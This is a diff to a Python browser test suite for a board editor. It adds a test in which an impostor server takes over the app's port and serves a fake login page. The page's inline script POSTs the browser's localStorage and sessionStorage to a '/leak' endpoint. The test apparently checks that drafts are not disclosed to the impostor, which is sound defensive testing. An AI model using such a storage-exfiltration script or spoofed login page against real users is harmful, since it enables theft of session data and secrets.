@@ -1,5 +1,5 @@
 """An editor that saves while somebody is busy on the page: nothing is lost, nothing jumps, and it is shown at once."""
-import time
+import http.server, threading, time
 
 from faces import Keys, Mouse
 from site_of_board import Site, fault, keys_in, opened, shown, window, write
@@ -10,7 +10,7 @@ HAS = "([key, text]) => document.querySelector(`#board li[data-task=${key}]`)?.t
 
 def together(chromium):
     for scene in (save_is_shown, save_during_drag, task_goes_during_drag, task_goes_before_drop, save_during_typing, save_during_edit, task_goes_during_edit,
-                  save_during_move, drafts_last, gone_and_back, hidden_tab, many_windows, undone_by_another):
+                  save_during_move, drafts_last, gone_and_back, taken_over, hidden_tab, many_windows, undone_by_another):
         site = Site()
         scene(chromium, site)
         site.close()
@@ -195,6 +195,60 @@ def gone_and_back(chromium, site):
     shown(page, 5, "document.querySelector('.trouble').textContent === ''", "the file comes back: that is told")
     if page.locator(".column form.add input[name=title]").first.input_value() != "Half a title":
         fault("the file vanishes, and what was typed as well")
+    page.context.close()
+
+
+def taken_over(chromium, site):
+    """Another user's server has the port once ours has ended: it is sent nothing that was typed, and not believed."""
+    page = opened(chromium, site, "the port is taken over", quiet=("ERR_", "status of 5", "the page's policy", "Content Security Policy"), **Mouse.settings)
+    field = page.locator(".column form.add input[name=title]").first
+    field.fill("A secret plan")
+    shown(page, 3, "Object.keys(localStorage).some(name => name.startsWith('board-draft'))", "a draft is kept")
+    port = int(site.url.split(":")[2].split("/")[0])
+    site.close()
+    got = []
+
+    class Other(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            stream = self.path.endswith("/events")
+            self.send_response(200)
+            self.send_header("Content-Type", "text/event-stream" if stream else "application/json" if self.path.endswith(".json") else "text/html")
+            self.end_headers()
+            self.wfile.write(b"event: gone\ndata: Log in elsewhere\n\nevent: board\nid: zz\ndata: zz\n\n" if stream else
+                             b"{}" if self.path.endswith(".json") else
+                             b"<!doctype html><title>Not Garden</title><main id=board data-revision=zz><h1>Log in</h1><form method=post action=/x><input name=title></form>"
+                             b"</main><script>fetch('/leak', {method: 'POST', body: JSON.stringify([{...localStorage}, {...sessionStorage}])})</script>")
+            if stream:
+                self.wfile.flush()
+                time.sleep(1)
+
+        do_HEAD = do_GET
+
+        def do_POST(self):
+            got.append((self.path, self.rfile.read(int(self.headers["Content-Length"] or 0))))
+            self.send_response(500)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, *_):
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", port), Other) as other:
+        threading.Thread(target=other.serve_forever, daemon=True).start()
+        page.wait_for_timeout(4500)
+        page.keyboard.press("Enter")
+        page.wait_for_timeout(500)
+        said = page.locator(".trouble").inner_text()
+        if got or page.title() == "Not Garden" or page.locator("text=Log in").count() or "is lost" not in said or field.input_value() != "A secret plan":
+            fault(f"the port is taken over: {got}, {page.title()!r}, {said!r}, {field.input_value()!r}")
+        page.reload()
+        page.wait_for_timeout(500)
+        if not got or any(b"secret" in body for _, body in got):
+            fault(f"the port is taken over: its page reads {got}")
+        other.shutdown()
+    site.serve(port)
+    page.goto(site.entrance)
+    shown(page, 3, "document.querySelector('.column form.add input[name=title]')?.value === 'A secret plan'", "a draft of the run before")
     page.context.close()
 
 
